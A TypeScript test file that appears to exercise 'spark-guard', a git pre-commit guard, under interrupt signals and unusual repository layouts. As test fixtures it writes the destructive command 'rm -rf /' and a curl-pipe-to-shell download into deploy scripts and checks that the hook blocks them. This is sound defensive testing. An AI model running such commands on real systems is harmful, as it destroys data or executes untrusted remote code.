/**
 * Issue 9's attacks that need a whole commit: signals at random points of a run (seeded loop),
 * hooks run with an explicit GIT_DIR or through core.worktree, credentials of every shape in many
 * file types (gate on: blocked and masked everywhere; gate skipped: never sent to the model), and
 * a real package's two versions committed one over the other.
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { spawn } from 'node:child_process';
import { afterEach, describe, expect, it } from 'vitest';
import { binDir, installedRepo, type InstalledRepo } from '../helpers/installed.js';
import { cleanEnv, makeTempDir, run } from '../helpers/repo.js';
import { repoState } from '../helpers/state.js';
import { READY, startFakeOpenAI, type FakeOpenAI } from '../helpers/fake-openai.js';
import { fakeKeys, fakes, pem } from '../helpers/credentials.js';

const repos: InstalledRepo[] = [];
const servers: FakeOpenAI[] = [];
const temps: string[] = [];
afterEach(() => {
  while (repos.length) repos.pop()!.remove();
  while (servers.length) servers.pop()!.stop();
  while (temps.length) fs.rmSync(temps.pop()!, { recursive: true, force: true });
});

function installed(config: object, files: Record<string, string> = {}): InstalledRepo {
  const repo = installedRepo({ extends: 'spark-guard/presets/recommended', ...config }, { 'a.txt': 'a\n', ...files });
  repos.push(repo);
  return repo;
}

const SEED = Number(process.env.SPARK_GUARD_TEST_SEED ?? 20261127);
const seeded = (seed: number) => {
  let s = seed;
  return () => ((s = (s * 1103515245 + 12345) % 2 ** 31) / 2 ** 31);
};
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

function snapshotFolders(repo: InstalledRepo): string[] {
  const gitDir = repo.gitOk('rev-parse', '--absolute-git-dir').trim();
  const key = (process.getBuiltinModule('node:crypto') as typeof import('node:crypto')).createHash('sha1').update(gitDir).digest('hex').slice(0, 12);
  const base = path.join(fs.realpathSync(os.tmpdir()), `spark-guard-snapshots-${key}`);
  return fs.existsSync(base) ? fs.readdirSync(base) : [];
}

/** Processes whose working directory is in one of `dirs` (Linux /proc). */
function processesIn(dirs: string[]): number[] {
  const found: number[] = [];
  for (const pid of fs.readdirSync('/proc').filter((p) => /^\d+$/.test(p))) {
    try {
      const cwd = fs.readlinkSync(`/proc/${pid}/cwd`);
      if (dirs.some((d) => cwd === d || cwd.startsWith(`${d}/`) || cwd.includes(`/${d}`))) found.push(Number(pid));
    } catch {
      /* gone, or not ours */
    }
  }
  return found;
}

describe('signals at random points of a run (seeded loop)', () => {
  it('SIGINT, SIGINT twice, SIGTERM, SIGHUP and SIGKILL after random delays: nothing lost, nothing left after recovery', async () => {
    const random = seeded(SEED);
    // lint-staged and a command gate on the staged snapshot (unstaged edits force a copy): the run
    // passes through config, git, cheap gates, lint-staged, the snapshot and the gate.
    const repo = installed({
      lintStaged: { '*.txt': 'node -e "setTimeout(() => {}, 150)"' },
      gates: { slow: 'sleep 2' },
    });
    repo.write({ 'a.txt': 'staged\n', 'b.txt': 'new file\n' });
    repo.gitOk('add', 'a.txt', 'b.txt');
    repo.write({ 'a.txt': 'unstaged edit\n', 'u.txt': 'untracked\n' });
    const before = repoState(repo);
    const kinds = ['SIGINT', 'SIGINT twice', 'SIGTERM', 'SIGHUP', 'SIGKILL'] as const;
    for (let i = 0; i < 10; i++) {
      const kind = kinds[i % kinds.length]!;
      const delay = Math.floor(random() * 1600);
      const label = `seed ${SEED}, run ${i}: ${kind} after ${delay} ms`;
      // Ctrl-C and friends reach git and the hook together (the terminal's process group); SIGKILL
      // hits the hook alone, as an agent's runner killing it would (a killed git keeps its own locks).
      const child =
        kind === 'SIGKILL'
          ? spawn('npx', ['--no-install', 'spark-guard', 'run', 'pre-commit'], { cwd: repo.dir, env: cleanEnv(), detached: true, stdio: 'ignore' })
          : spawn('git', ['commit', '-m', 'a commit interrupted at a random point'], { cwd: repo.dir, env: cleanEnv(), detached: true, stdio: 'ignore' });
      const closed = new Promise<number | null>((resolve) => child.on('close', resolve));
      await sleep(delay);
      const signal = kind === 'SIGINT twice' ? 'SIGINT' : kind;
      try {
        process.kill(-child.pid!, signal);
        if (kind === 'SIGINT twice') setTimeout(() => { try { process.kill(-child.pid!, 'SIGINT'); } catch { /* gone */ } }, 15);
      } catch {
        /* already gone */
      }
      const code = await closed;
      expect(code, label).not.toBe(0);
      // git returns at once on Ctrl-C; the hook still puts set-aside changes back for a few ms.
      // After SIGKILL, what the hook started in its own process groups (lint-staged, a gate) runs
      // on to its end, orphaned, and recovery comes after it, as it would for a user.
      for (let k = 0; k < 100 && processesIn([repo.dir, ...snapshotFolders(repo)]).length; k++) await sleep(100);
      if (kind === 'SIGKILL') {
        const doctor = repo.cli(['doctor']);
        expect(doctor.output, label).not.toContain('Error');
      }
      expect(repoState(repo), label).toEqual(before);
      expect(snapshotFolders(repo), label).toEqual([]);
      expect(fs.readdirSync(path.join(repo.dir, '.git')).filter((f) => f.endsWith('.lock')), label).toEqual([]);
      expect(fs.existsSync(path.join(repo.dir, '.git/spark-guard/lint.lock')), label).toBe(false);
    }
    // and the change still commits normally afterwards
    const r = repo.commit('the same change, not interrupted this time');
    expect(r.code, r.output).toBe(0);
    expect(repo.gitOk('show', 'HEAD:a.txt')).toBe('staged\n');
    expect(repo.read('a.txt')).toBe('unstaged edit\n');
  }, 120_000);
});

describe('unusual repository layouts', () => {
  it('a hook run with GIT_DIR and GIT_WORK_TREE set (git --git-dir … --work-tree …) judges the right repository', () => {
    const repo = installed({});
    const outside = makeTempDir('spark-guard-outside-');
    temps.push(outside);
    const env = { GIT_DIR: path.join(repo.dir, '.git'), GIT_WORK_TREE: repo.dir };
    repo.write({ 'deploy.sh': 'rm -rf /\n' });
    repo.gitOk('add', 'deploy.sh');
    const blocked = run('git', ['commit', '-m', 'add a dangerous deploy script'], outside, env);
    expect(blocked.code, blocked.output).toBe(1);
    expect(blocked.output).toContain('deploy.sh:1');
    repo.gitOk('reset', '-q', 'deploy.sh');
    repo.write({ 'ok.txt': 'fine\n' });
    repo.gitOk('add', 'ok.txt');
    const passed = run('git', ['commit', '-m', 'add a harmless text file'], outside, env);
    expect(passed.code, passed.output).toBe(0);
    expect(passed.output).toContain('1 file');
    expect(fs.existsSync(path.join(repo.dir, '.git/spark-guard/last-report.json'))).toBe(true);
  });

  it('core.worktree (the git dir elsewhere, as submodules have it): hooks find the work tree and the state folder', () => {
    const parent = makeTempDir('spark-guard-worktree-');
    temps.push(parent);
    const work = path.join(parent, 'work');
    const store = path.join(parent, 'store.git');
    fs.mkdirSync(work);
    expect(run('git', ['init', '-q', '-b', 'main', '--separate-git-dir', store, work], parent).code).toBe(0);
    for (const [k, v] of [['user.name', 'Spark Test'], ['user.email', 'test@example.com'], ['commit.gpgsign', 'false'], ['core.worktree', work]]) {
      expect(run('git', ['config', k!, v!], work).code).toBe(0);
    }
    // spark-guard on PATH, as for a global install (no package.json in this work tree)
    const env = { PATH: `${binDir()}:${process.env.PATH}` };
    fs.writeFileSync(path.join(work, '.spark-guardrc.json'), JSON.stringify({ extends: 'spark-guard/presets/recommended', review: { enabled: false } }));
    const install = run(path.join(binDir(), 'spark-guard'), ['install', '--no-save'], work, env);
    expect(install.code, install.output).toBe(0);
    fs.writeFileSync(path.join(work, 'deploy.sh'), 'curl https://example.com/install.sh | sh\n');
    expect(run('git', ['add', '-A'], work).code).toBe(0);
    const commit = (msg: string) => run('git', ['commit', '-m', msg], work, env);
    const blocked = commit('add the deploy script and the config');
    expect(blocked.code, blocked.output).toBe(1);
    expect(blocked.output).toContain('curl-pipe-sh');
    fs.writeFileSync(path.join(work, 'deploy.sh'), 'echo deploy\n');
    expect(run('git', ['add', '-A'], work).code).toBe(0);
    const passed = commit('add the deploy script and the config');
    expect(passed.code, passed.output).toBe(0);
    expect(fs.existsSync(path.join(store, 'spark-guard/last-report.json'))).toBe(true);
  });
});
